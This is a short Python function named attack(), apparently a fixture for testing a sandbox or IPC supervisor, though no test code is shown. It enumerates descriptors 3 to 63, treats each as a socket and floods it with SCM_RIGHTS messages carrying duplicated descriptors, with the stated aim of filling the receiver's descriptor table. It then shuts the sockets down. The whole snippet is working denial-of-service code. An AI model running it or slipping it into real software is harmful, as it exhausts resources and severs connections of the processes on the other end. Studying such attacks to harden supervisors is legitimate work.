# Sends hundreds of descriptors over every socket it holds, to fill the receiver's table.
def attack():
    import array
    import posix
    import socket

    spare = [posix.dup(1) for _ in range(20)]
    for handle in range(3, 64):
        try:
            channel = socket.socket(fileno=handle)
        except OSError:
            continue
        channel.setblocking(False)
        for _ in range(200):
            try:
                channel.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", spare))])
            except OSError:
                break
        try:
            channel.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        channel.detach()
    return False
